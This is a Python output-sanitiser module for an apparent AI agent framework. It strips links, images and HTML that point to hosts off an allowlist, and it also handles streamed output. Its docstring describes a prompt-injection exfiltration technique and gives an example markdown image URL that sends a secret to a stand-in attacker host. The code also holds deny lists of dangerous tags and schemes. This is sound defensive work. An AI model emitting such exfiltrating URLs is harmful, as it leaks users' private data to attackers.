"""Output hygiene: make every link and image to a host off the allowlist inert.

A model that read an injected instruction can smuggle data out through a URL that the
user's renderer fetches by itself (``![x](https://evil.example/p.png?d=<secret>)``,
``<img src=…>``, ``<svg><image href=…>``) or that the user clicks (links, bare URLs a
renderer turns into links). Every text a user or another model sees goes through
:func:`sanitize_output` — or, for a stream, :class:`StreamSanitizer`, which gives the
same text piece by piece.

What it neutralises (unless the URL's host is allowlisted, or the URL stays on the page's
own site, i.e. is relative):

* markdown images and links, inline (``[t](url)``), reference definitions
  (``[r]: url``) and autolinks (``<scheme:…>``); a ``](`` or ``]:`` whose destination is
  off the allowlist is neutralised even where the surrounding syntax is malformed;
* raw HTML tags whose attributes hold such a URL (``src``, ``href``, ``srcset``,
  ``xlink:href``, CSS ``url(…)`` …), any tag with an ``on…`` event handler, and tags that
  have no place in an answer (``script``, ``style``, ``iframe``, ``object``, ``meta``,
  ``link``, ``base``, ``form`` …);
* bare URLs: ``http(s)://``, ``ftp://``, ``ws(s)://``, ``www.host/…`` and
  ``host.tld/path`` (renderers linkify all three).

URLs are read as a browser reads them (:mod:`urlhost`, WHATWG rules): backslashes,
userinfo, percent-encoding, IDNA, character references and markdown backslash escapes
cannot make an off-list host look allowlisted. A URL carrying a user name or password is
never allowed; ``javascript:``, ``data:`` and other schemes are never allowed.

Replacements are ``text (link removed)``, ``(image removed: alt)``, ``(link removed)``
and ``(html removed)`` — written without square brackets so that they cannot combine
with the text around them into a new link.

Streaming (:class:`StreamSanitizer`): the scanner that sanitises a whole text also runs on
a growing buffer and stops before the first construct that more text could still change
(an unclosed ``[…](…``, ``<tag …``, an unfinished word that might become a URL); it
releases everything before it at once and holds back only that tail. The concatenated
output of a stream equals :func:`sanitize_output` of the whole text, whatever the token
boundaries (a property the tests check on random splits).
"""

from __future__ import annotations

import html
import importlib.util
import re
from collections.abc import Iterable, Sequence
from functools import lru_cache
from pathlib import Path

from tandem.agents.privacy.urls import UrlTarget, host_matches, url_target

__all__ = [
    "IMAGE_REMOVED",
    "LINK_REMOVED",
    "StreamSanitizer",
    "neutralize_links",
    "sanitize_output",
    "url_allowed",
]

LINK_REMOVED = "(link removed)"
IMAGE_REMOVED = "(image removed)"
HTML_REMOVED = "(html removed)"

MAX_LINK_TEXT = 2000
"""Longest link text (``[…]``) read as a link; longer brackets are plain text (a ``](``
after them is still checked)."""
MAX_TAG = 4000
"""Longest raw HTML tag; an unclosed ``<name`` longer than this is made inert (``< name``)."""

_WS = " \t\n\r\f\v"
_TOKEN_END = re.compile(r"[\s<>\[\]()\"'`]|!(?=\[)")
"""A bare URL ends at whitespace or ``<`` (GFM) — and here also at brackets, parentheses and
quotes, so that it never swallows a markdown or HTML construct (what follows is scanned on
its own; the host, which decides, comes before any of these)."""
_TRIGGER = re.compile(
    r"!\[|\[|\]|<"
    r"|(?<![A-Za-z0-9])(?:https?|ftps?|wss?):[/\\]"
    r"|(?<![\w.\-@])www\."
    r"|(?<![\w.\-@/:\\])(?:[^\W_](?:[\w\-]*[^\W_])?\.)+[^\W\d_]{2,}\.?(?=[/?#:\\])",
    re.IGNORECASE,
)
_INNER_URL = re.compile(r"(?<![A-Za-z0-9])(?:https?|ftps?|wss?):[/\\]|(?<![\w.\-@])www\.", re.I)
_AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\s<>\x00-\x1f]*)>")
_EMAIL_AUTOLINK = re.compile(
    r"<[A-Za-z0-9.!#$%&'*+/=?^_`{|}~\-]+@[A-Za-z0-9](?:[A-Za-z0-9\-]{0,61}[A-Za-z0-9])?"
    r"(?:\.[A-Za-z0-9](?:[A-Za-z0-9\-]{0,61}[A-Za-z0-9])?)*>"
)
_BACKSLASH_ESCAPE = re.compile(r"\\([!-/:-@\[-`{-~])")
_CSS_URL = re.compile(r"(?:url|image-set|image)\(\s*(['\"]?)([^'\")\s]*)\1", re.I)
_CSS_IMPORT = re.compile(r"@import\s+(['\"])([^'\"]*)\1", re.I)
_ABSOLUTE = re.compile(r"^\s*(?:[A-Za-z][A-Za-z0-9+.\-]*:|[/\\]{2})")

_DROP_TAGS = frozenset(
    {
        "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet",
        "meta", "link", "base", "form", "portal", "noscript", "template", "fencedframe",
    }
)  # fmt: skip
_IMAGE_TAGS = frozenset({"img", "image", "picture", "source", "video", "audio", "svg", "feimage"})
_URL_ATTRS = frozenset(
    {
        "href", "src", "srcset", "imagesrcset", "action", "formaction", "poster", "background",
        "data", "cite", "longdesc", "lowsrc", "dynsrc", "ping", "manifest", "codebase",
        "archive", "icon", "profile", "usemap", "xlink:href", "xml:base", "srcdoc",
    }
)  # fmt: skip

_NEED_MORE = -1


@lru_cache(maxsize=1)
def _tlds() -> frozenset[str]:
    """Top-level domains from the public suffix list bundled with tldextract (no network)."""
    found = {"example", "test", "invalid", "localhost", "onion", "local", "internal"}
    spec = importlib.util.find_spec("tldextract")
    for base in (spec.submodule_search_locations or []) if spec else []:
        path = Path(base) / ".tld_set_snapshot"
        if path.is_file():
            for line in path.read_text(encoding="utf-8").splitlines():
                line = line.strip()
                if line and not line.startswith("//") and "." not in line:
                    found.add(line.lstrip("*!").lower())
    if len(found) < 50:  # no snapshot: fall back to the common ones
        found |= {"com", "net", "org", "io", "co", "ai", "app", "dev", "info", "biz", "xyz"}
    return frozenset(found)


def url_allowed(url: str, allowed_hosts: Sequence[str], *, markdown: bool = False) -> bool:
    """Whether a renderer may follow ``url`` (a link destination or attribute value).

    Every reading of it must be harmless: as written, with HTML character references
    decoded and (``markdown``) with backslash escapes removed. Relative references and
    fragments stay on the page's own site and are allowed.
    """
    variants = {url, html.unescape(url)}
    if markdown:
        variants |= {_BACKSLASH_ESCAPE.sub(r"\1", v) for v in list(variants)}
        variants |= {html.unescape(v) for v in list(variants)}
    return all(_target_allowed(url_target(v), allowed_hosts) for v in variants)


def _target_allowed(t: UrlTarget, allowed_hosts: Sequence[str]) -> bool:
    if t.kind == "none":
        return True
    if t.kind != "network" or t.userinfo or not t.host:
        return False
    if t.scheme not in ("", "http", "https"):
        return False
    if "(" in t.host or ")" in t.host:
        return False
    return host_matches(t.host, allowed_hosts)


def _flatten(text: str) -> str:
    return re.sub(r"\s+", " ", re.sub(r"[\[\]()<>!]", "", text)).strip()


class _Scanner:
    """One left-to-right pass; ``final=False`` stops before anything more text could change."""

    def __init__(self, text: str, allowed: Sequence[str], *, final: bool, start: int = 0):
        self.s = text
        self.n = len(text)
        self.allowed = allowed
        self.final = final
        self.start = start

    # -- helpers -----------------------------------------------------------------------
    def _inner(self, text: str, prev: str) -> str:
        out, _ = _Scanner(prev + text, self.allowed, final=True, start=len(prev)).run()
        return out

    def _sep(self, i: int) -> str:
        """A space before a replacement that starts with link text, unless one is there:
        glued to the text before it, it could extend a URL (``https://gov.uk`` +
        ``.evil.example/…``) or open a tag (``<`` + ``x``)."""
        return "" if i == 0 or self.s[i - 1] in _WS else " "

    def _removed_link(self, i: int, text: str) -> str:
        if not text.strip():
            return LINK_REMOVED
        return f"{self._sep(i)}{text} {LINK_REMOVED}"

    def _ok(self, url: str, *, markdown: bool = False) -> bool:
        return url_allowed(url, self.allowed, markdown=markdown)

    def _skip_ws(self, i: int, *, newline: bool) -> int:
        """Skip spaces/tabs and at most one line ending; returns the new index."""
        s, n = self.s, self.n
        while i < n and s[i] in " \t":
            i += 1
        if newline and i < n and s[i] in "\r\n":
            i += 2 if s.startswith("\r\n", i) else 1
            while i < n and s[i] in " \t":
                i += 1
        return i

    # -- main loop ---------------------------------------------------------------------
    def run(self) -> tuple[str, int]:
        s, n = self.s, self.n
        out: list[str] = []
        i = self.start
        # Without more text, the last unfinished word may still turn into a URL or a
        # construct: plain text is released only up to the last whitespace (or "<").
        limit = n
        if not self.final:
            m = re.search(r"[\s<]", s[::-1])
            limit = max(n - m.start() if m else self.start, self.start)
        while i < n:
            m = _TRIGGER.search(s, i)
            stop = m.start() if m else n
            if not self.final:
                stop = min(stop, max(limit, i))
            if stop > i:
                out.append(s[i:stop])
                i = stop
            if m is None or i != m.start():
                break
            result = self._dispatch(m)
            if result is None:  # more text could change this construct: stop before it
                break
            text, i = result
            out.append(text)
        return "".join(out), i

    def _dispatch(self, m: re.Match[str]) -> tuple[str, int] | None:
        tok = m.group(0)
        i = m.start()
        if tok == "![":
            return self._link(i, image=True)
        if tok == "[":
            return self._link(i, image=False)
        if tok == "]":
            return self._orphan(i)
        if tok == "<":
            return self._angle(i)
        return self._bare(m)

    # -- bare URLs ---------------------------------------------------------------------
    def _token_end(self, i: int) -> int | None:
        m = _TOKEN_END.search(self.s, i)
        if m is None:
            return self.n if self.final else None
        return m.start()

    def _bare(self, m: re.Match[str]) -> tuple[str, int] | None:
        i = m.start()
        end = self._token_end(i)
        if end is None:
            return None
        token = self.s[i:end]
        body, tail = _trim_trailing(token)
        tok = m.group(0)
        if tok[-1] in "/\\":
            url = body
        else:
            if not tok.lower().startswith("www."):
                label = tok.rstrip(".").rsplit(".", 1)[-1].lower()
                if label not in _tlds():
                    return tok, m.end()  # not a domain (node.js/…): plain text
            url = "http://" + body
        if self._ok(url) and all(
            self._ok(("http://" + rest) if rest[:4].lower() == "www." else rest)
            for rest in (body[k.start() :] for k in _INNER_URL.finditer(body, 1))
        ):
            return body + tail, end
        return LINK_REMOVED + tail, end

    # -- markdown ----------------------------------------------------------------------
    def _link_text_end(self, j: int) -> int | bool | None:
        """Index of the ``]`` closing the link text from ``j``; False: not a link."""
        s, n = self.s, self.n
        depth = 0
        start = j
        while j < n:
            if j - start > MAX_LINK_TEXT:
                return False
            c = s[j]
            if c == "\\":
                j += 2
                continue
            if c in "<`":
                # Autolinks, raw HTML and code spans bind tighter than link brackets.
                skip = self._skip_tight(j)
                if skip is None:
                    return None
                if skip > j:
                    j = skip
                    continue
            if c == "[":
                depth += 1
            elif c == "]":
                if depth == 0:
                    return j
                depth -= 1
            elif c == "\n":
                k = j + 1
                while k < n and s[k] in " \t\r":
                    k += 1
                if k < n and s[k] == "\n":
                    return False  # a blank line ends the paragraph
                if k >= n and not self.final:
                    return None
            j += 1
        return False if self.final else None

    def _skip_tight(self, j: int) -> int | None:
        """End of an autolink, a complete HTML tag or a code span at ``j`` (``j``: none)."""
        s, n = self.s, self.n
        if s[j] == "`":
            run = len(s[j:]) - len(s[j:].lstrip("`"))
            m = re.compile(r"(?<!`)" + "`" * run + r"(?!`)").search(s, j + run)
            if m is None:
                if self.final or n - j > MAX_LINK_TEXT:
                    return j + run
                return None
            return m.end()
        if j + 1 >= n:
            return j if self.final else None
        m = _AUTOLINK.match(s, j) or _EMAIL_AUTOLINK.match(s, j)
        if m:
            return m.end()
        if not s[j + 1].isascii() or not s[j + 1].isalpha():
            return j
        tag = _parse_tag(s, j)
        if tag.end is None:
            if self.final or n - j > MAX_TAG:
                return j
            return None
        return tag.end if tag.end - j <= MAX_TAG else j

    def _inline_dest(self, p: int) -> tuple[str, int] | bool | None:
        """Parse ``dest [title] )`` from ``p`` (just after ``(``): (dest, end after ``)``)."""
        s, n = self.s, self.n
        p = self._skip_ws(p, newline=True)
        if p >= n:
            return False if self.final else None
        if s[p] == "<":
            q = p + 1
            while q < n and s[q] not in ">\n<":
                q += 2 if s[q] == "\\" else 1
            if q >= n:
                return False if self.final else None
            if s[q] != ">":
                return False
            dest, p = s[p + 1 : q], q + 1
        else:
            q, depth = p, 0
            while q < n:
                c = s[q]
                if c == "\\":
                    q += 2
                    continue
                if c in _WS or ord(c) < 0x20:
                    break
                if c == "(":
                    depth += 1
                elif c == ")":
                    if depth == 0:
                        break
                    depth -= 1
                q += 1
            if q >= n:
                return False if self.final else None
            dest, p = s[p:q], q
        q = self._skip_ws(p, newline=True)
        if q >= n:
            return False if self.final else None
        if s[q] == ")":
            return dest, q + 1
        if q == p or s[q] not in "\"'(":
            return False
        close = ")" if s[q] == "(" else s[q]
        r = q + 1
        while r < n and s[r] != close:
            if s[r] == "\\":
                r += 1
            elif s[r] == "\n" and re.match(r"\n[ \t]*\n", s[r:]):
                return False
            r += 1
        if r >= n:
            return False if self.final else None
        r = self._skip_ws(r + 1, newline=True)
        if r >= n:
            return False if self.final else None
        return (dest, r + 1) if s[r] == ")" else False

    def _candidate(self, p: int) -> tuple[str, int] | None:
        """The loosest reading of a destination at ``p``: up to whitespace or ``)``."""
        s, n = self.s, self.n
        if p < n and s[p] == "<":
            m = re.compile(r"[>\s]").search(s, p + 1)
            if m is None:
                return (s[p + 1 :], n) if self.final else None
            return s[p + 1 : m.start()], m.start() + (s[m.start()] == ">")
        m = re.compile(r"[\s)]").search(s, p)
        if m is None:
            return (s[p:], n) if self.final else None
        return s[p : m.start()], m.start()

    def _link(self, i: int, *, image: bool) -> tuple[str, int] | None:
        s, n = self.s, self.n
        j = i + (2 if image else 1)
        close = self._link_text_end(j)
        if close is None:
            return None
        if close is False:
            return s[i], i + 1
        assert isinstance(close, int)
        k = close + 1
        if k >= n:
            return (s[i], i + 1) if self.final else None
        label = s[j:close]
        if s[k] == "(":
            parsed = self._inline_dest(k + 1)
            if parsed is None:
                return None
            if parsed is False:
                return s[i], i + 1  # not a link: the "](" is checked on its own
            assert isinstance(parsed, tuple)
            dest, end = parsed
            cand = self._candidate(self._skip_ws(k + 1, newline=True))
            if cand is None:
                return None
            inner = self._inner(label, "[")
            if self._ok(dest, markdown=True) and self._ok(cand[0], markdown=True):
                # The destination and title are then scanned as any other text (a title
                # is shown as text by an HTML renderer; it may hold a tag).
                return ("!" if image else "") + "[" + inner + "](", k + 1
            if image:
                alt = _flatten(inner)
                return (f"(image removed: {alt})" if alt else IMAGE_REMOVED), end
            return self._removed_link(i, inner), end
        return s[i], i + 1  # a reference, a definition or plain brackets: "]" handled alone

    def _orphan(self, i: int) -> tuple[str, int] | None:
        """A ``](`` or ``]:`` not read as part of a link: check what follows."""
        s, n = self.s, self.n
        if i + 1 >= n:
            return ("]", i + 1) if self.final else None
        nxt = s[i + 1]
        if nxt not in "(:":
            return "]", i + 1
        p = self._skip_ws(i + 2, newline=True)
        if p >= n:
            return ("]" + nxt, i + 2) if self.final else None
        cand = self._candidate(p)
        if cand is None:
            return None
        url, end = cand
        if self._ok(url, markdown=True):
            return s[i:p], p  # what follows is scanned as any other text
        if nxt == "(" and end < n and s[end] == ")":
            end += 1
        return (f"]: {LINK_REMOVED}" if nxt == ":" else f"] {LINK_REMOVED}"), end

    # -- HTML --------------------------------------------------------------------------
    def _angle(self, i: int) -> tuple[str, int] | None:
        s, n = self.s, self.n
        if i + 1 >= n:
            return ("<", i + 1) if self.final else None
        c = s[i + 1]
        if not ("a" <= c.lower() <= "z"):
            return "<", i + 1
        m = _AUTOLINK.match(s, i)
        if m:
            if self._ok(m.group(1)):
                return m.group(0), m.end()
            return LINK_REMOVED, m.end()
        if _EMAIL_AUTOLINK.match(s, i):
            e = _EMAIL_AUTOLINK.match(s, i)
            assert e is not None
            return e.group(0), e.end()
        if not self.final and re.fullmatch(r"<[A-Za-z][A-Za-z0-9+.\-]{0,31}(?::[^\s<>]*)?", s[i:]):
            return None  # could still become an autolink
        tag = _parse_tag(s, i)
        if tag.end is None:  # unclosed
            if n - i > MAX_TAG:
                return "< ", i + 1
            if not self.final:
                return None
            # At the end of the text: a browser drops it, a markdown renderer shows it as
            # text (and renders what it holds). Keep it only if both readings are harmless.
            if re.fullmatch(r"<[\w\- ]*", s[i:]):
                return s[i:], n  # "a<b", "List<String", "x <y z": words, no attributes
            return "< ", i + 1
        end = tag.end
        if end - i > MAX_TAG:
            return "< ", i + 1
        name = tag.name.lower()
        # Kept only if harmless both as HTML and as the text a markdown renderer may see
        # in its place (when the tag is not valid raw HTML there).
        if self._tag_ok(tag) and self._inert(s[i + 1 : end]):
            return s[i:end], end
        if name == "a":
            closing = re.compile(r"</a\s*>|<", re.I).search(s, end)
            if (
                closing is not None
                and closing.group(0) == "<"
                and not self.final
                and re.fullmatch(r"<(?:/(?:[aA]\s*)?)?", s[closing.start() :])
            ):
                return None  # may be the start of "</a>"
            if (
                closing is not None
                and closing.group(0) == "<"
                and closing.start() - end <= MAX_LINK_TEXT
            ):
                return LINK_REMOVED, end  # markup inside: the rest is scanned on its own
            if closing is None or closing.start() - end > MAX_LINK_TEXT:
                if closing is None and not self.final and n - end <= MAX_LINK_TEXT:
                    return None
                return LINK_REMOVED, end
            inner = self._inner(s[end : closing.start()], ">")
            return self._removed_link(i, inner), closing.end()
        if name in _IMAGE_TAGS:
            return IMAGE_REMOVED, end
        return HTML_REMOVED, end

    def _inert(self, text: str) -> bool:
        """Whether scanning ``text`` changes nothing (no construct in it is neutralised)."""
        return self._inner(text, "<") == text

    def _inner_urls_ok(self, raw: str) -> bool:
        """Every scheme or ``www.`` URL written anywhere inside a kept tag is allowed."""
        for m in _INNER_URL.finditer(raw):
            end = re.compile(r"[\s\"'<>`]").search(raw, m.start())
            token = raw[m.start() : end.start() if end else len(raw)]
            url = "http://" + token if token[:4].lower() == "www." else token
            if not self._ok(url):
                return False
        return True

    def _tag_ok(self, tag: _Tag) -> bool:
        name = tag.name.lower()
        if name in _DROP_TAGS:
            return False
        for attr, value in tag.attrs:
            a = attr.lower()
            if a.startswith("on"):
                return False
            v = html.unescape(value)
            urls: list[str] = []
            if a in ("srcset", "imagesrcset"):
                urls += [part.strip().split(" ")[0] for part in v.split(",") if part.strip()]
            elif a == "ping":
                urls += v.split()
            elif a in _URL_ATTRS or a.endswith(":href") or _ABSOLUTE.match(v.lstrip("= ")):
                urls += [value, value.lstrip("= ")]
            urls += [m.group(2) for m in _CSS_URL.finditer(v)]
            urls += [m.group(2) for m in _CSS_IMPORT.finditer(v)]
            if a == "style" and re.search(r"expression\s*\(|behavior\s*:", v, re.I):
                return False
            if not all(self._ok(u) for u in urls):
                return False
        return True


class _Tag:
    __slots__ = ("attrs", "end", "name")

    def __init__(self, name: str, attrs: list[tuple[str, str]], end: int | None) -> None:
        self.name = name
        self.attrs = attrs
        self.end = end


_HTML_WS = "\t\n\f\r "


def _parse_tag(s: str, i: int) -> _Tag:
    """Tokenise an HTML start tag at ``s[i] == "<"`` like the HTML tokenizer does.

    ``end`` is the index after ``>``, or None when the text ends inside the tag.
    """
    n = len(s)
    j = i + 1
    while j < n and s[j] not in _HTML_WS and s[j] not in "/>":
        j += 1
    name = s[i + 1 : j]
    attrs: list[tuple[str, str]] = []
    while True:
        while j < n and (s[j] in _HTML_WS or s[j] == "/"):
            j += 1
        if j >= n:
            return _Tag(name, attrs, None)
        if s[j] == ">":
            return _Tag(name, attrs, j + 1)
        k = j + 1  # the first character may be "="
        while k < n and s[k] not in _HTML_WS and s[k] not in "/>=":
            k += 1
        attr = s[j:k]
        j = k
        while j < n and s[j] in _HTML_WS:
            j += 1
        if j < n and s[j] == "=":
            j += 1
            while j < n and s[j] in _HTML_WS:
                j += 1
            if j >= n:
                attrs.append((attr, ""))
                return _Tag(name, attrs, None)
            if s[j] in "\"'":
                q = s.find(s[j], j + 1)
                if q < 0:
                    attrs.append((attr, s[j + 1 :]))
                    return _Tag(name, attrs, None)
                attrs.append((attr, s[j + 1 : q]))
                j = q + 1
            elif s[j] == ">":
                attrs.append((attr, ""))
            else:
                k = j
                while k < n and s[k] not in _HTML_WS and s[k] != ">":
                    k += 1
                attrs.append((attr, s[j:k]))
                j = k
        else:
            attrs.append((attr, ""))


def _trim_trailing(token: str) -> tuple[str, str]:
    """Split GFM's trailing punctuation (and an unbalanced ``)``) off a bare URL."""
    end = len(token)
    while end > 0:
        c = token[end - 1]
        if c in "?!.,:*_~'\"" or (c == ")" and token[:end].count("(") < token[:end].count(")")):
            end -= 1
        elif c == ";" and re.search(r"&[A-Za-z0-9]+;$", token[:end]):
            end = token.rfind("&", 0, end)
        else:
            break
    return token[:end], token[end:]


def sanitize_output(text: str, allowed_hosts: Iterable[str] = ()) -> str:
    """``text`` with links, images and HTML to off-allowlist hosts made inert.

    Args:
        text: Model output (markdown, HTML or plain text).
        allowed_hosts: Hosts (and their subdomains) whose links and images may stay.
    """
    allowed = tuple(allowed_hosts)
    if not _TRIGGER.search(text):
        return text
    out, _ = _Scanner("\n" + text, allowed, final=True, start=1).run()
    return out


def neutralize_links(text: str, allowed_hosts: Iterable[str] = ()) -> str:
    """The same as :func:`sanitize_output` (its name before streaming and HTML were covered)."""
    return sanitize_output(text, allowed_hosts)


class StreamSanitizer:
    """:func:`sanitize_output` for a stream of pieces; ``"".join`` of the results equals it.

    ``feed`` returns what can be shown now — everything except a possibly unfinished
    construct at the end — and ``finish`` the rest.
    """

    def __init__(self, allowed_hosts: Iterable[str] = ()) -> None:
        self.allowed = tuple(allowed_hosts)
        self._buf = ""
        self._prev = "\n"

    @property
    def pending(self) -> str:
        """Text held back until more arrives."""
        return self._buf

    def feed(self, piece: str) -> str:
        if not piece:
            return ""
        self._buf += piece
        out, used = _Scanner(
            self._prev + self._buf, self.allowed, final=False, start=len(self._prev)
        ).run()
        used -= len(self._prev)
        if used > 0:
            self._prev = self._buf[used - 1]
            self._buf = self._buf[used:]
        return out

    def finish(self) -> str:
        out, _ = _Scanner(
            self._prev + self._buf, self.allowed, final=True, start=len(self._prev)
        ).run()
        self._buf = ""
        self._prev = "\n"
        return out
